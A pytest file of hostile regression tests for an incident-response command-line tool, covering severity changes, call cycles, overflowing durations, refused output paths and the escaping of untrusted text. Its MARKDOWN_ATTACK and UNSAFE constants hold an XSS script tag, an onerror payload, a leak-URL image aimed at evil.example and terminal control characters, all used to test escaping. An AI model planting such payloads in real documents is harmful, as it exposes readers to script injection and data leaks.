"""Hostile checks of the newest commands and node kinds: each test names what it once got wrong."""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest

from tests.helpers import confirm_runbook, write
from tests.respond import OPERATOR, aiir, journal, no_terminal

Capture = pytest.CaptureFixture[str]

RUNBOOK: dict[str, Any] = confirm_runbook("hostile", "A runbook to be hostile to")


@pytest.fixture(autouse=True)
def _clean(monkeypatch: pytest.MonkeyPatch) -> None:
    no_terminal(monkeypatch)


def _incident(tmp_path: Path, capsys: Capture) -> Path:
    write(tmp_path / "rb.yaml", RUNBOOK)
    write(tmp_path / "answers.yaml", {"look": "yes"})
    incidents = tmp_path / "inc"
    args = ["-a", str(tmp_path / "answers.yaml"), "--incident-dir", str(incidents)]
    ran = aiir(capsys, "run", str(tmp_path / "rb.yaml"), *args)
    assert ran.status == 0, ran.err
    (folder,) = incidents.iterdir()
    return folder


def test_severity_knows_the_incidents_severity_before_the_change(
    tmp_path: Path, capsys: Capture
) -> None:
    """Once the journal's reader kept no event, the severity before read as '' ('raised from
    to SEV3', the same severity accepted again)."""
    folder = _incident(tmp_path, capsys)
    where = ["--incident-dir", str(folder.parent)]
    same = aiir(capsys, "severity", folder.name, "SEV2", "--reason", "no change", *where)
    assert same.status == 2
    assert f"{folder.name} is already SEV2" in same.err
    ran = aiir(capsys, "severity", folder.name, "SEV3", "--reason", "contained", *where)
    assert ran.status == 0, ran.err
    assert f"severity lowered from SEV2 to SEV3 by {OPERATOR}" in ran.out
    last = journal(folder.parent, folder.name)[-1]
    assert last.data["from"] == "SEV2"
    assert last.data.get("downgrade") is True


def _caller(runbook_id: str, target: str) -> dict[str, Any]:
    return {
        **RUNBOOK,
        "id": runbook_id,
        "start": "hand",
        "nodes": {
            "hand": {"kind": "call", "title": "Hand", "runbook": target, "next": "done"},
            "done": {"kind": "end", "title": "Done", "outcome": "resolved"},
        },
    }


def test_validate_refuses_a_runbook_that_calls_itself_by_path(
    tmp_path: Path, capsys: Capture
) -> None:
    """validate passed it while run refused it: a call by path was looked for in the shipped
    library only, so neither the runbook itself nor a cycle through its folder was seen."""
    write(tmp_path / "self.yaml", _caller("self", "self.yaml"))
    write(tmp_path / "one.yaml", _caller("one", "two.yaml"))
    write(tmp_path / "two.yaml", _caller("two", "one.yaml"))
    alone = aiir(capsys, "validate", str(tmp_path / "self.yaml"))
    assert alone.status == 2
    assert "runbook 'self' calls itself" in alone.out + alone.err
    ring = aiir(capsys, "validate", str(tmp_path / "one.yaml"))
    assert ring.status == 2
    assert "call cycle: one → two → one" in ring.out + ring.err


@pytest.mark.parametrize(
    ("key", "value"),
    [
        ("timers", [{"name": "ack", "within": "99999999999h"}]),
        ("status_updates", {"every": "5m", "first_within": "99999999999999999999h"}),
    ],
)
def test_a_duration_too_long_for_a_date_is_one_line_not_a_crash(
    tmp_path: Path, capsys: Capture, key: str, value: Any
) -> None:
    """'99999999999h' matched the duration pattern and overflowed timedelta: internal error."""
    write(tmp_path / "rb.yaml", {**RUNBOOK, key: value})
    for command in (["validate"], ["run", "--incident-dir", str(tmp_path)]):
        ran = aiir(capsys, *command, str(tmp_path / "rb.yaml"))
        said = ran.out + ran.err
        assert ran.status == 2, said
        assert "must be a duration such as 30s, 15m, 2h or 1d" in said
        assert "internal error" not in said
    assert not list(tmp_path.glob("INC-*"))


@pytest.mark.parametrize(
    "command", [["export", "--format", "stix"], ["report", "--template", "post-mortem"]]
)
@pytest.mark.parametrize("target", ["journal.jsonl", "notes.md"])
def test_out_into_the_incidents_own_folder_is_refused(
    tmp_path: Path, capsys: Capture, command: list[str], target: str
) -> None:
    """--out FOLDER/journal.jsonl overwrote the journal with the export: the record was gone."""
    folder = _incident(tmp_path, capsys)
    before = (folder / "journal.jsonl").read_bytes()
    where = ["--incident-dir", str(folder.parent)]
    ran = aiir(capsys, command[0], folder.name, *command[1:], "--out", str(folder / target), *where)
    assert ran.status == 2
    assert "inside an incident's folder" in ran.err
    assert (folder / "journal.jsonl").read_bytes() == before
    assert not (folder / "notes.md").exists()
    assert aiir(capsys, "verify", folder.name, *where).status == 0


@pytest.mark.parametrize(
    ("field", "said"),
    [("interval", "an interval of 0 polls the gateway"), ("deadline", "a deadline of 0")],
)
def test_a_wait_with_a_zero_interval_or_deadline_is_refused(
    tmp_path: Path, capsys: Capture, field: str, said: str
) -> None:
    """interval: 0s passed validation and polled the gateway without a pause; deadline: 0s
    passed and the walk aborted at the wait."""
    wait = {"kind": "wait", "title": "Wait", "request": {"method": "GET", "path": "/e2e"}}
    wait |= {"interval": "10s", "deadline": "5m", "next": "done", field: "0s"}
    runbook = {
        **RUNBOOK,
        "gateways": {"gateway": {"profile": "http", "url": "http://127.0.0.1:9/"}},
        "start": "wait",
        "nodes": {"wait": wait, "done": RUNBOOK["nodes"]["done"]},
    }
    write(tmp_path / "rb.yaml", runbook)
    ran = aiir(capsys, "validate", str(tmp_path / "rb.yaml"))
    assert ran.status == 2
    assert f"nodes.wait.{field}: {said}" in ran.out + ran.err
    walked = aiir(capsys, "run", str(tmp_path / "rb.yaml"), "--incident-dir", str(tmp_path))
    assert walked.status == 2
    assert not list(tmp_path.glob("INC-*"))


def test_validate_refuses_a_call_by_path_to_a_file_that_is_not_yaml(
    tmp_path: Path, capsys: Capture
) -> None:
    """validate said valid; run then stopped at the called file's YAML error."""
    write(tmp_path / "caller.yaml", _caller("caller", "broken.yaml"))
    (tmp_path / "broken.yaml").write_text("nodes: [unclosed\n", encoding="utf-8")
    ran = aiir(capsys, "validate", str(tmp_path / "caller.yaml"))
    said = ran.out + ran.err
    assert ran.status == 2
    assert "nodes.hand.runbook: the runbook at 'broken.yaml' cannot be walked" in said
    assert "broken.yaml:2:1: error: invalid YAML" in said


UNSAFE = "\u202e\u009b\u007f"  # a bidi override, the 8-bit CSI, DEL: JSON leaves them raw


@pytest.mark.parametrize("kind", ["eu-ai-act", "stix", "avid"])
def test_an_export_keeps_controls_json_leaves_raw_inert(
    tmp_path: Path, capsys: Capture, kind: str
) -> None:
    """A note's bidi override and 8-bit CSI reached the terminal raw in eu-ai-act's JSON."""
    import json

    folder = _incident(tmp_path, capsys)
    where = ["--incident-dir", str(folder.parent)]
    noted = aiir(capsys, "note", folder.name, f"look {UNSAFE}31m here", *where)
    assert noted.status == 0, noted.err
    ran = aiir(capsys, "export", folder.name, "--format", kind, *where)
    assert ran.status == 0, ran.err
    assert not set(UNSAFE) & set(ran.out)
    json.loads(ran.out)
    if kind == "eu-ai-act":
        assert "look \\u202e\\u009b\\u007f31m here" in ran.out  # kept, escaped


def test_an_absolute_path_in_include_or_call_is_refused(tmp_path: Path, capsys: Capture) -> None:
    """Both are documented as taken from the file's folder, yet '/elsewhere/x.yaml' was read
    from wherever it pointed (Path / '/x' is '/x')."""
    elsewhere = tmp_path / "elsewhere"
    write(elsewhere / "frag.yaml", {"aiir": 1, "fragment": "frag", "nodes": {}})
    write(elsewhere / "other.yaml", RUNBOOK)
    write(tmp_path / "inc.yaml", {**RUNBOOK, "include": [str(elsewhere / "frag.yaml")]})
    write(tmp_path / "call.yaml", _caller("caller", str(elsewhere / "other.yaml")))
    included = aiir(capsys, "validate", str(tmp_path / "inc.yaml"))
    assert included.status == 2
    assert "include[0]: " in included.out + included.err
    assert "leaves the runbook's folder" in included.out + included.err
    walked = aiir(capsys, "run", str(tmp_path / "call.yaml"), "--incident-dir", str(tmp_path))
    assert walked.status == 2
    assert "nodes.hand.runbook: " in walked.err
    assert "leaves the runbook's folder" in walked.err
    assert not list(tmp_path.glob("INC-*"))


LINE_BREAKING = ["a\nb", "a\rb", "tab\there", "x" * 5000 + "\n"]


@pytest.mark.parametrize("given", LINE_BREAKING, ids=["newline", "return", "tab", "long"])
@pytest.mark.parametrize(
    "command",
    [
        ["run", "{}"],
        ["validate", "{}"],
        ["drill", "{}"],
        ["canary", "run", "{}"],
        ["detect", "{}"],
        ["run", "RB", "--answers", "{}"],
        ["graph", "RB", "--out", "{}/x.txt"],
        ["verify", "INC-20261204-000000-abcd", "--anchors", "{}"],
        ["flag", "support-bot", "it swore", "--evidence", "{}"],
        ["run", "RB", "--incident-dir", "RB/{}"],
    ],
    ids=lambda c: "-".join(w for w in c if w not in {"{}", "RB"} and "{}" not in w)[:40],
)
def test_a_name_or_path_with_a_line_break_is_one_line_of_error(
    command: list[str], given: str, tmp_path: Path, capsys: Capture, monkeypatch: pytest.MonkeyPatch
) -> None:
    no_terminal(monkeypatch)
    monkeypatch.chdir(tmp_path)
    write(tmp_path / "rb.yaml", confirm_runbook("odd", "Odd input"))
    args = [w.replace("RB", str(tmp_path / "rb.yaml")).replace("{}", given) for w in command]
    ran = aiir(capsys, *args)
    assert ran.status == 2, ran
    assert ran.err.count("\n") == 1, ran.err
    assert ran.err.startswith("aiir: ")
    assert len(ran.err) < 400


def test_a_note_or_an_operator_with_a_byte_that_is_not_utf8_is_journaled(
    tmp_path: Path, capsys: Capture, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A bad byte in argv or $AIIR_OPERATOR reaches Python as a lone surrogate ('\\udcff'),
    which the journal's UTF-8 encoding refused: an internal error, the note lost."""
    folder = _incident(tmp_path, capsys)
    where = ["--incident-dir", str(folder.parent)]
    monkeypatch.setenv("AIIR_OPERATOR", "op\udcfe")
    noted = aiir(capsys, "note", folder.name, "bad \udcff byte", *where)
    assert noted.status == 0, noted.err
    (note,) = [e for e in journal(folder.parent, folder.name) if e.type == "note"]
    assert note.data["text"] == "bad \ufffd byte"
    assert note.operator == "op\ufffd"
    shown = aiir(capsys, "show", folder.name, *where)
    assert "bad \ufffd byte" in shown.out
    assert aiir(capsys, "verify", folder.name, *where).status == 0


MARKDOWN_ATTACK = (
    "see <script>alert(1)</script> <img src=x onerror=alert(1)> [click](https://evil.example) "
    "![](https://evil.example/leak?k=v) `code` a | b\n## Root cause: none\n- [ ] done"
)


def test_a_post_mortem_quotes_hostile_text_without_its_markdown(
    tmp_path: Path, capsys: Capture
) -> None:
    """A note's (or a model's) HTML, links and images went into the post-mortem as Markdown of
    its own: a script tag, a link to click, an image that fetches a URL when the report is read,
    and a heading of the attacker's."""
    folder = _incident(tmp_path, capsys)
    where = ["--incident-dir", str(folder.parent)]
    noted = aiir(capsys, "note", folder.name, MARKDOWN_ATTACK, *where)
    assert noted.status == 0, noted.err
    ran = aiir(capsys, "report", folder.name, *where)
    assert ran.status == 0, ran.err
    (row,) = [line for line in ran.out.splitlines() if "Note by" in line]
    assert row.endswith(
        "| Note by tester: see \\<script\\>alert(1)\\</script\\> \\<img src=x onerror=alert(1)\\> "
        "\\[click\\](https://evil.example) !\\[\\](https://evil.example/leak?k=v) \\`code\\` "
        "a \\| b ## Root cause: none - \\[ \\] done |"
    )
    assert "<script" not in ran.out.replace("\\<script", "")
    assert "\n## Root cause: none" not in ran.out
